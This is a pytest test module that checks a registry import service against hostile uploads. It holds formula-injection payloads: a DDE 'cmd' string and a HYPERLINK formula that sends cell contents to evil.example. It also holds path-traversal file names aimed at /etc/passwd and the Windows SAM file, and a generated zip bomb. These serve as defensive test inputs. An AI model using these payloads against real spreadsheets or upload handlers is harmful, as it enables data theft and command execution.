"""Hostile agency files, for every import kind: wrong encodings, wrong/missing/duplicate headers,
formulas, a million empty rows, an XLSX zip bomb and a sparse-sheet bomb, files that are not
what their name says, truncated workbooks, huge cells, NUL bytes, and hostile file names.

Each either imports correctly or fails with an error that names the row, column and value (or
what is wrong with the file) in Chinese and English; a failed import writes nothing but its own
run record and audit events, and the audit chain still verifies. Memory is bounded by
construction (limits checked before reading, workbooks read in a capped child process); where
it means something the peak is measured with tracemalloc. docs/reliability.md lists these
cases with their node ids."""

from __future__ import annotations

import csv
import functools
import io
import re
import tracemalloc
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from gaoxin.common.errors import (
    WORKBOOK_INVALID,
    WORKBOOK_TOO_COMPLEX,
    WORKBOOK_TOO_LARGE,
    ErrorCode,
)
from gaoxin.common.models import AuditEvent
from gaoxin.registry import errors, services
from gaoxin.registry.choices import ImportKind
from gaoxin.registry.imports.columns import SPECS
from gaoxin.registry.models import ImportRun, Person
from gaoxin.testing import hostile_files as hostile
from gaoxin.testing.errors import raises_code

from .conftest import write_csv

pytestmark = pytest.mark.django_db

KINDS = [k.value for k in ImportKind]
MB = 1024 * 1024
GOOD_PEOPLE = [["11010519491231002X", "张三", ""], ["440524188001010014", "李四", "13800000000"]]
OWN_EVENTS = {"registry.import.started", "registry.import.failed", "registry.import.rejected"}


def zone_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


def header(kind: str) -> list[str]:
    return [c.zh for c in SPECS[kind].columns]


def registry_counts() -> dict[str, int]:
    models = apps.get_app_config("registry").get_models()
    return {m.__name__: m._default_manager.count() for m in models if m is not ImportRun}


@contextmanager
def writes_nothing() -> Iterator[None]:
    """No registry row changes; the only new audit events are the import's own (started,
    failed/rejected); the chain still verifies."""
    counts = registry_counts()
    last = AuditEvent.objects.order_by("-id").values_list("id", flat=True).first() or 0
    yield
    assert registry_counts() == counts
    new = set(AuditEvent.objects.filter(id__gt=last).values_list("action", flat=True))
    assert new <= OWN_EVENTS, new
    call_command("audit_verify", stdout=io.StringIO())


def failed_with(run: ImportRun, error: Any) -> str:
    assert (run.status, run.error_code) == ("failed", error.code), run.error_params
    zh = run.error_message
    assert zh and zh != run.error_code
    return zh


@functools.cache
def bomb() -> bytes:
    """3 GB of sheet XML in 3.6 MB."""
    return hostile.zip_bomb_xlsx(3 * 1024 * MB)


# -- encodings and file types: a valid file in every form imports the same rows ------------------


@pytest.mark.parametrize("kind", KINDS)
def test_every_encoding_and_a_misnamed_file_import_the_same_rows(
    kind, zone_files, load_zone, run_import, tmp_path
):
    load_zone(until=kind)
    rows = zone_rows(zone_files[kind])
    first = run_import(kind, zone_files[kind])
    assert (first.status, first.inserted) == ("succeeded", len(rows)), first.errors_preview
    variants = {
        "utf-8-sig.csv": hostile.encoded([header(kind), *rows], "utf-8-sig"),
        "gbk.csv": hostile.encoded([header(kind), *rows], "gbk"),
        "utf-16-tabs.txt": hostile.encoded([header(kind), *rows], "utf-16"),
        "a-csv-named.xlsx": hostile.encoded([header(kind), *rows], "utf-8"),
        "an-xlsx-named.csv": hostile.xlsx([header(kind), *rows]),
    }
    for name, data in variants.items():
        path = tmp_path / name
        path.write_bytes(data)
        again = run_import(kind, path)
        assert again.status == "succeeded", (name, again.error_code, again.errors_preview)
        assert (again.inserted, again.updated, again.unchanged) == (0, 0, len(rows)), name


# -- files that are not what they say, damaged, or built to exhaust memory ----------------------


def _truncated() -> bytes:
    data = hostile.xlsx([["身份证号", "姓名"], *GOOD_PEOPLE])
    return data[: len(data) // 2]


FILE_CASES: dict[str, tuple[Callable[[], bytes], ErrorCode, str]] = {
    "png-named-xlsx": (lambda: hostile.PNG, errors.IMPORT_BINARY, "二进制"),
    "zip-of-text-named-xlsx": (
        lambda: hostile.zip_of_text("readme.txt"),
        WORKBOOK_INVALID,
        "没有 Excel 工作簿",
    ),
    "truncated-xlsx": (_truncated, WORKBOOK_INVALID, "不完整"),
    "xlsx-zip-bomb-3gb": (bomb, WORKBOOK_TOO_LARGE, "3071 MB"),
    "sparse-a1-xfd1048576": (
        lambda: hostile.sparse_xlsx(["身份证号", "姓名"]),
        WORKBOOK_TOO_COMPLEX,
        "1048576",
    ),
    "empty": (lambda: b"", errors.IMPORT_EMPTY_FILE, "空"),
    "only-bom-and-newlines": (lambda: b"\xef\xbb\xbf\r\n\r\n", errors.IMPORT_EMPTY_FILE, "空"),
    "undecodable": (
        lambda: "身份证号,姓名\n".encode() + b"\x80\xff\x80\xff\n",
        errors.IMPORT_ENCODING,
        "第 2 行",
    ),
    "nul-in-csv": (
        lambda: "身份证号,姓名\n11010519491231002X,张\x00三\n".encode(),
        errors.IMPORT_BINARY,
        "二进制",
    ),
    "utf-16-without-bom": (
        lambda: "身份证号\t姓名\n".encode("utf-16-le"),
        errors.IMPORT_BINARY,
        "二进制",
    ),
}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("case", list(FILE_CASES))
def test_hostile_files_fail_clearly_and_write_nothing(case, kind, run_import, tmp_path):
    build, error, phrase = FILE_CASES[case]
    path = tmp_path / f"{case}.xlsx"
    path.write_bytes(build())
    with writes_nothing():
        run = run_import(kind, path)
    assert phrase in failed_with(run, error)


# -- headers -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_missing_unknown_and_duplicate_headers_are_named(kind, run_import, tmp_path):
    columns = header(kind)
    cases = {
        "missing": (columns[1:], columns[0]),
        "unknown": ([*columns, "备注"], "备注"),
        "duplicate": ([*columns, columns[0]], "重复 repeated"),
        "spreadsheet-garbage": (["=cmd|' /C calc'!A0", *columns], "=cmd"),
    }
    for name, (head, phrase) in cases.items():
        path = write_csv(tmp_path / f"{name}.csv", head, [["x"] * len(head)])
        with writes_nothing():
            run = run_import(kind, path)
        assert phrase in failed_with(run, errors.IMPORT_HEADERS), name
    book = tmp_path / "nul-header.xlsx"  # a workbook cell can hold NUL (_x0000_)
    book.write_bytes(hostile.xlsx([[*columns, "备\x00注"], ["x"] * (len(columns) + 1)]))
    with writes_nothing():
        run = run_import(kind, book)
    assert "备\\x00注" in failed_with(run, errors.IMPORT_HEADERS)


# -- cells ---------------------------------------------------------------------------------------

# kind -> a free-text column (index) that a formula or NUL would otherwise reach the database in
TEXT_COLUMN = {"enterprise": 1, "person": 1, "degree": 2, "property": 2, "qualification": 5}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("value", "text_error", "label"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点我")', errors.ROW_FORMULA, "formula"),
        ("=cmd|' /C calc'!A0", errors.ROW_FORMULA, "dde"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", errors.ROW_FORMULA, "at-sign"),
        ("张\x00三", errors.ROW_CONTROL_CHARACTERS, "nul"),
    ],
)
def test_formulas_and_nul_in_cells_are_refused_by_row_and_column(
    kind, value, text_error, label, zone_files, load_zone, run_import, tmp_path
):
    """From an XLSX (where NUL arrives as _x0000_): a text column refuses formula-like text and
    control characters; any other column refuses them as invalid values. The report names the
    row and column and shows the value with NUL made visible."""
    load_zone(until=kind)
    rows = zone_rows(zone_files[kind])[:2]
    column = TEXT_COLUMN.get(kind, 0)
    rows[1][column] = value
    path = tmp_path / "cells.xlsx"
    path.write_bytes(hostile.xlsx([header(kind), *rows]))
    with writes_nothing():
        run = run_import(kind, path)
    assert run.status == "rejected"
    problem = run.errors_preview[0]
    assert (problem["row"], problem["column"]) == (3, SPECS[kind].columns[column].zh)
    assert problem["value"] == value.replace("\x00", "\\x00")
    if kind in TEXT_COLUMN:
        assert problem["code"] == text_error.code
    assert problem["reason_zh"] and problem["reason_en"]
    with run.error_report.open("rb") as handle:
        report = CalamineWorkbook.from_filelike(io.BytesIO(handle.read()))
    cell = report.get_sheet_by_index(0).to_python()[1][2]
    assert cell == "'" + problem["value"] if value[0] in "=+-@" else cell == problem["value"]


def test_a_formula_cell_imports_the_value_people_see(run_import, tmp_path):
    path = tmp_path / "formula.xlsx"
    path.write_bytes(
        hostile.xlsx(
            [["身份证号", "姓名"], ["11010519491231002X", "张三"]],
            formulas={(1, 1): '="张"&"三"'},
        )
    )
    run = run_import("person", path)
    assert run.status == "succeeded", run.errors_preview
    assert Person.objects.get().name == "张三"


def test_huge_cells_are_named_not_crashed(run_import, tmp_path):
    csv_path = write_csv(
        tmp_path / "huge.csv", ["身份证号", "姓名"], [GOOD_PEOPLE[0][:2], ["1", "名" * 200_000]]
    )
    with writes_nothing():
        run = run_import("person", csv_path)
    assert "第 3 行" in failed_with(run, errors.IMPORT_BAD_CSV)

    xlsx_path = tmp_path / "huge.xlsx"
    xlsx_path.write_bytes(
        hostile.xlsx([["身份证号", "姓名"], ["11010519491231002X", "名" * 32_000]])
    )
    with writes_nothing():
        run = run_import("person", xlsx_path)
    assert run.status == "rejected"
    assert run.errors_preview[0]["code"] == errors.ROW_TOO_LONG.code
    assert len(run.errors_preview[0]["value"]) == 200  # the report keeps a bounded excerpt


def test_nul_after_the_first_256_kb_is_a_row_error(run_import, tmp_path):
    rows = (
        [["11010519491231002X", "张三"]]
        + [["", ""]] * 140_000
        + [["440524188001010014", "李\x00四"]]
    )
    path = write_csv(tmp_path / "late-nul.csv", ["身份证号", "姓名"], rows)
    assert path.stat().st_size > 256 * 1024
    with writes_nothing():
        run = run_import("person", path)
    assert run.status == "rejected"
    assert run.errors_preview[0]["row"] == 140_003
    assert run.errors_preview[0]["code"] == errors.ROW_CONTROL_CHARACTERS.code


def test_a_long_phone_number_no_longer_crashes_postgresql(run_import, tmp_path):
    path = write_csv(
        tmp_path / "phone.csv",
        ["身份证号", "姓名", "联系电话"],
        [["11010519491231002X", "张三", "+" + "1" * 20]],
    )
    with writes_nothing():
        run = run_import("person", path)
    assert run.status == "rejected" and run.errors_preview[0]["column"] == "联系电话"


# -- a million empty rows ------------------------------------------------------------------------


@pytest.mark.slow
def test_a_million_empty_csv_rows_between_the_data_import_in_bounded_memory(run_import, tmp_path):
    path = tmp_path / "sparse.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("身份证号,姓名,联系电话\r\n")
        handle.write(",".join(GOOD_PEOPLE[0]) + "\r\n")
        handle.write(",,\r\n" * 1_000_000)
        handle.write(",".join(GOOD_PEOPLE[1]) + "\r\n")
    tracemalloc.start()
    run = run_import("person", path)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (run.status, run.inserted) == ("succeeded", 2), run.errors_preview
    assert peak < 20 * MB, peak  # the file is 3 MB; nothing is held per empty row


@pytest.mark.slow
def test_a_million_empty_xlsx_rows_between_the_data_import_with_real_row_numbers(
    run_import, tmp_path
):
    """Row 1,000,003 of the sheet holds a bad ID number; the report says row 1,000,003."""
    rows: list[list[Any]] = [["身份证号", "姓名"], GOOD_PEOPLE[0][:2]]
    rows += [[""]] * 1_000_000 + [["11010519491231002Y", "王五"]]
    path = tmp_path / "tall.xlsx"
    path.write_bytes(hostile.xlsx(rows))
    with writes_nothing():
        run = run_import("person", path)
    assert run.status == "rejected"
    assert run.errors_preview[0]["row"] == 1_000_003


# -- uploads: size and names ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\Windows\\System32\\config\\SAM",
        "C:\\Users\\x\\people.csv",
        "people.csv\x00.exe",
        "a" * 500 + ".csv",
    ],
)
def test_no_path_is_ever_taken_from_an_uploaded_file_name(name, make_user):
    upload = SimpleUploadedFile(name, "身份证号,姓名\n11010519491231002X,张三\n".encode())
    run = services.import_start(actor=make_user("zone_admin"), kind="person", upload=upload)
    assert re.fullmatch(
        r"registry/imports/\d{4}/\d{2}/[0-9a-f]{12}-import-[0-9a-f]{24}\.upload", run.file.name
    )
    assert "/" not in run.original_name and not run.original_name.startswith("..")
    assert "\x00" not in run.original_name and len(run.original_name) <= 200
    assert run.file.read().startswith("身份证号".encode())


def test_an_upload_over_the_limit_is_refused_before_it_is_read(make_user, settings):
    settings.GAOXIN_REGISTRY_MAX_UPLOAD_MB = 1
    upload = SimpleUploadedFile("big.csv", b"x" * (MB + 1))
    before = ImportRun.objects.count()
    with raises_code("registry.import_too_large") as error:
        services.import_start(actor=make_user("zone_admin"), kind="person", upload=upload)
    assert "上限 1 MB" in error.value.message("zh")
    assert ImportRun.objects.count() == before


def test_the_upload_page_shows_the_limit_error_and_stores_nothing(client_for, settings):
    settings.GAOXIN_REGISTRY_MAX_UPLOAD_MB = 1
    upload = SimpleUploadedFile("big.csv", b"x" * (MB + 1), "text/csv")
    page = client_for("zone_admin").post("/registry/imports/", {"kind": "person", "file": upload})
    assert "上限 1 MB" in page.content.decode()
    assert ImportRun.objects.count() == 0


def test_an_upload_over_5_mb_reaches_the_import_as_a_file_on_disk(client_for, monkeypatch):
    """FILE_UPLOAD_MAX_MEMORY_SIZE (5 MB): Django streams a bigger upload to a temporary file,
    and the import hashes and stores it from there in 1 MB chunks."""
    from django.core.files.uploadedfile import TemporaryUploadedFile

    seen: list[type] = []
    start = services.import_start

    def spy(**kwargs: Any) -> ImportRun:
        seen.append(type(kwargs["upload"]))
        return start(**kwargs)

    monkeypatch.setattr(services, "import_start", spy)
    body = "身份证号,姓名\n" + "11010519491231002X,张三\n" * 300_000
    upload = SimpleUploadedFile("big.csv", body.encode(), "text/csv")
    assert (upload.size or 0) > 5 * MB
    response = client_for("zone_admin").post(
        "/registry/imports/", {"kind": "person", "file": upload}
    )
    assert response.status_code == 302
    assert seen == [TemporaryUploadedFile]
    assert ImportRun.objects.get().file_size == upload.size


# -- fuzzing: random cells under a real header never crash an import -----------------------------

FUZZ_CELL = st.text(
    st.characters(codec="utf-8") | st.sampled_from(["\x00", "\x1b", ",", '"', "\n", "=", "\ud800"]),
    max_size=30,
) | st.sampled_from(GOOD_PEOPLE[0] + GOOD_PEOPLE[1])


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kind=st.sampled_from(KINDS),
    rows=st.lists(st.lists(FUZZ_CELL, min_size=1, max_size=10), min_size=1, max_size=6),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16"]),
)
def test_random_cells_under_every_header_end_in_a_named_outcome(
    kind, rows, encoding, run_import, tmp_path_factory
):
    """Succeeded, rejected with every problem named, or failed with a named file error: never
    `import_crashed`, and a run that did not succeed changed nothing."""
    text = hostile.csv_text([header(kind), *rows])
    path = tmp_path_factory.mktemp("fuzz") / "fuzz.csv"
    path.write_bytes(text.encode(encoding, "replace"))
    counts = registry_counts()
    run = run_import(kind, path)
    assert run.error_code != errors.IMPORT_CRASHED.code, run.error_params
    assert run.status in {"succeeded", "rejected", "failed"}
    if run.status != "succeeded":
        assert registry_counts() == counts
        assert run.error_message or run.errors_preview
    for problem in run.errors_preview:
        assert problem["reason_zh"] and problem["reason_en"] and problem["column"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/api/registry/enterprises?q=",
        "/api/registry/enterprises?status=",
        "/api/audit/events?action=",
        "/api/audit/events?object_id=",
    ],
)
def test_every_search_input_is_bounded(client_for, path):
    """Issue #13 item 5: a 50,001-character search answered 500 on SQLite (LIKE pattern too
    long); it is now refused with the field named."""
    response = client_for("zone_admin").get(path + "字" * 50_001)
    assert response.status_code == 422
    body = response.json()
    assert body["code"] == "invalid_input" and "输入有误" in body["message_zh"]
